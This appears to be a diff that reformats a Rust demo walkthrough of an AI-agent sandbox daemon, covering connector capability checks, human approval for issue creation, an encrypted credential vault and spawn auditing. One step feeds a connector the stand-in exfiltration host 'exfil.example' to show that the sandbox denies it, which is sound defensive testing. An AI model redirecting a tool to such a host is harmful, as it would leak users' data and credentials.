@@ -140,22 +140,36 @@ async fn walkthrough(home: &Home, scratch: &std::path::Path) -> anyhow::Result<E
     for issue in body["result"]["output"].as_array().into_iter().flatten() {
         println!("   #{} {}", issue["number"], issue["title"].as_str().unwrap_or("?"));
     }
-    println!("   audit {} · the upstream received {} request(s)", body["audit_id"].as_str().unwrap_or("?"), upstream.recorder.count() - before);
+    println!(
+        "   audit {} · the upstream received {} request(s)",
+        body["audit_id"].as_str().unwrap_or("?"),
+        upstream.recorder.count() - before
+    );
 
     println!("\n== 6. an agent tries to point the connector at a host its manifest does not declare");
     let before = upstream.recorder.count();
     let args = json!({ "owner": "aileron", "repo": "demo", "api_base": "http://exfil.example:8080" });
     let (status, body) = run_action(&client, "list-issues", &args).await?;
     let error = &body["error"];
-    println!("   HTTP {} {}: {}", status.as_u16(), error["class"].as_str().unwrap_or("?"), error["message"].as_str().unwrap_or("?"));
+    println!(
+        "   HTTP {} {}: {}",
+        status.as_u16(),
+        error["class"].as_str().unwrap_or("?"),
+        error["message"].as_str().unwrap_or("?")
+    );
     println!("   requested {} · granted {}", error["details"]["requested"], error["details"]["granted"]);
-    println!("   audit {} · the upstream received {} request(s)", error["audit_id"].as_str().unwrap_or("?"), upstream.recorder.count() - before);
+    println!(
+        "   audit {} · the upstream received {} request(s)",
+        error["audit_id"].as_str().unwrap_or("?"),
+        upstream.recorder.count() - before
+    );
     if error["class"] != "capability_denied" {
         bail!("expected the sandbox to deny the undeclared host, got {body}");
     }
 
     println!("\n== 7. create-issue requires human approval: the agent gets 202 and a review URL, nothing runs yet");
-    let args = json!({ "owner": "aileron", "repo": "demo", "title": "Hello from the demo", "api_base": upstream.base_url() });
+    let args =
+        json!({ "owner": "aileron", "repo": "demo", "title": "Hello from the demo", "api_base": upstream.base_url() });
     let (status, pending) = run_action(&client, "create-issue", &args).await?;
     if status != StatusCode::ACCEPTED {
         bail!("expected 202 pending_approval, got {status}: {pending}");
@@ -181,7 +195,8 @@ async fn walkthrough(home: &Home, scratch: &std::path::Path) -> anyhow::Result<E
     println!("\n== 9. the vault: encrypted credentials, bound to a connector, injected host-side");
     client.post("/v1/vault/init", &json!({ "passphrase": DEMO_PASSPHRASE })).await?;
     println!("   created the vault (Argon2id + AES-256-GCM) as `aileron vault init` would");
-    let binding = client.post("/v1/bindings/setup", &json!({ "connector": EXAMPLE_FQN, "api_key": DEMO_TOKEN })).await?;
+    let binding =
+        client.post("/v1/bindings/setup", &json!({ "connector": EXAMPLE_FQN, "api_key": DEMO_TOKEN })).await?;
     println!(
         "   bound a demo GitHub token as {} (`aileron binding setup {EXAMPLE_FQN}`)",
         binding["name"].as_str().unwrap_or("?")
@@ -269,7 +284,12 @@ async fn spawn_walkthrough(client: &DaemonClient, home: &Home, scratch: &std::pa
         .await?;
     let hash = installed["hash"].as_str().context("install answered without a hash")?.to_string();
     for (file_name, template) in GIT_ACTIONS {
-        client.post("/v1/actions/install", &json!({ "file_name": file_name, "content": render_git_action(template, &hash) })).await?;
+        client
+            .post(
+                "/v1/actions/install",
+                &json!({ "file_name": file_name, "content": render_git_action(template, &hash) }),
+            )
+            .await?;
     }
     let (status, body) = run_action(client, "git-log", &json!({ "repo": repo, "count": 5 })).await?;
     if status != StatusCode::OK {
@@ -282,14 +302,21 @@ async fn spawn_walkthrough(client: &DaemonClient, home: &Home, scratch: &std::pa
     }
     println!("   git-log {}:", repo.display());
     for commit in body["result"]["output"].as_array().into_iter().flatten() {
-        println!("     {} {} — {}", commit["hash"].as_str().unwrap_or("?"), commit["date"].as_str().unwrap_or("?"), commit["subject"].as_str().unwrap_or("?"));
+        println!(
+            "     {} {} — {}",
+            commit["hash"].as_str().unwrap_or("?"),
+            commit["date"].as_str().unwrap_or("?"),
+            commit["subject"].as_str().unwrap_or("?")
+        );
     }
     let records = client.get("/v1/audit?event_type=spawn&limit=1").await?;
     if let Some(record) = records["items"].as_array().and_then(|items| items.first()) {
         let payload = &record["payload"];
         println!(
             "   audited as `spawn`: argv {} · exit {} · stdout {} bytes ({}) — values and environment are never recorded",
-            payload["aileron.spawn.argv_shape"], payload["aileron.spawn.exit_code"], payload["aileron.spawn.stdout.bytes"],
+            payload["aileron.spawn.argv_shape"],
+            payload["aileron.spawn.exit_code"],
+            payload["aileron.spawn.stdout.bytes"],
             payload["aileron.spawn.stdout.sha256"].as_str().unwrap_or("?")
         );
     }
@@ -342,7 +369,8 @@ async fn decide(client: &DaemonClient, id: &str, approved: bool, reason: Option<
     if let Some(reason) = reason {
         body["reason"] = reason.into();
     }
-    let (status, answer) = client.call_raw(Method::POST, &format!("/v1/action-approvals/{id}/decide"), Some(&body)).await?;
+    let (status, answer) =
+        client.call_raw(Method::POST, &format!("/v1/action-approvals/{id}/decide"), Some(&body)).await?;
     if status != StatusCode::NO_CONTENT {
         bail!("deciding {id} failed ({status}): {answer}");
     }
